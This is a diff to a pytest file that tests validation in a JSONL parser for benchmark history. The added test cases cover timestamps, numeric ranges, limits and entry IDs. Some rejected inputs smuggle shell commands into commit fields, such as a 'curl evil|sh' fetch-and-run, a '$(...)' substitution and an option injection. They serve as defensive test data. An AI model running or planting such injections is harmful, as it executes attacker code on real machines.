@@ -9,9 +9,10 @@ from pathlib import Path
 
 import pytest
 
-from app.history.jsonl import append, merged, parse, read, render
+from app.history.jsonl import COMMIT_IS, LineError, append, merged, parse, read, render
+from app.history.model import Environment
 from app.history.to_json import entry_id, entry_json, entry_of
-from tests.app.history.runs import run
+from tests.app.history.runs import H100, run
 
 
 def test_what_was_appended_is_read_and_counted_once(tmp_path: Path) -> None:
@@ -43,6 +44,15 @@ def test_a_line_that_was_cut_keeps_its_place_and_the_next_is_whole(tmp_path: Pat
         ({"at": "yesterday"}, "`at` is an ISO 8601 time such as 2026-11-26T11:30:00Z"),
         ({"id": ""}, "no run of a check: `id` and `check` are not empty"),
         ({"commit": "x" * 501}, "a text is longer than 500 characters"),
+        ({"at": "9999-12-31T23:59:59-10:00"}, "`at` is an ISO 8601 time such as 2026-11-26T11:30:00Z"),
+        ({"at": "0001-01-01T00:00:00+10:00"}, "`at` is an ISO 8601 time such as 2026-11-26T11:30:00Z"),
+        ({"at": "0001-01-01T00:00:00Z"}, "`at` is in the years 1970 to 2200"),
+        ({"at": "2201-01-01T00:00:00Z"}, "`at` is in the years 1970 to 2200"),
+        ({"check": "n\0ul"}, "a text has control characters"),
+        ({"parents": ["a"] * 17}, "more than 32 versions of software or 16 parents"),
+        ({"commit": "a; curl evil|sh #"}, COMMIT_IS),
+        ({"commit": "--orphan"}, COMMIT_IS),
+        ({"parents": ["a", "$(b)"]}, COMMIT_IS),
     ],
 )
 def test_a_bad_line_says_what_is_wrong_with_it(change: dict[str, object], problem: str) -> None:
@@ -51,10 +61,30 @@ def test_a_bad_line_says_what_is_wrong_with_it(change: dict[str, object], proble
     assert parse(b"\n" + line).bad_lines[0].number == 2
 
 
-@pytest.mark.parametrize("value", [0.0, -1.0])
-def test_a_value_that_has_no_logarithm_is_refused(value: float) -> None:
+@pytest.mark.parametrize("value", [0.0, -1.0, 1e-300, 1e300])
+def test_a_value_that_no_measurement_has_is_refused(value: float) -> None:
     (bad,) = parse(render([run(0, value)])).bad_lines
-    assert bad.problem == "step.json, step time: a value is above 0"
+    assert bad.problem == "step.json, step time: a value is from 1e-12 to 1e+18"
+
+
+@pytest.mark.parametrize("spread", [-0.1, 101.0, 1e308])
+def test_a_spread_that_no_samples_have_is_refused(spread: float) -> None:
+    one = run(0, 1.0)
+    (bad,) = parse(render([replace(one, measures=(replace(one.measures[0], spread=spread),))])).bad_lines
+    assert bad.problem == "step.json, step time: a spread is from 0 to 100"
+
+
+def test_more_versions_than_an_environment_has_are_refused() -> None:
+    software = {f"n{n}": "1" for n in range(33)}
+    (bad,) = parse(render([run(0, 1.0, Environment("NVIDIA H200", software))])).bad_lines
+    assert bad.problem == "more than 32 versions of software or 16 parents"
+
+
+def test_what_could_not_be_read_again_is_not_written(tmp_path: Path) -> None:
+    path = tmp_path / "history.jsonl"
+    with pytest.raises(LineError, match="a commit has letters"):
+        append(path, [run(0, 1.0), run(1, 1.0, commit="a b")])
+    assert not path.exists()
 
 
 @pytest.mark.parametrize("text", [b"[1]", b"null", b"1e999", b"\xff\xfe", b"[" * 100_000, b"{" + b" " * 1_000_001])
@@ -89,5 +119,8 @@ def test_writers_at_once_lose_no_line(tmp_path: Path) -> None:
 def test_an_id_is_of_what_was_measured() -> None:
     one = run(0, 1.0)
     assert entry_id(one) == entry_id(replace(one, id="other"))
+    assert entry_id(one) == entry_id(replace(one, at="2027-01-01T00:00:00.000000Z"))
     assert entry_id(one) != entry_id(run(0, 1.1))
+    assert entry_id(one) != entry_id(replace(one, commit="other"))
+    assert entry_id(one) != entry_id(replace(one, environment=H100))
     assert len(entry_id(one)) == 32
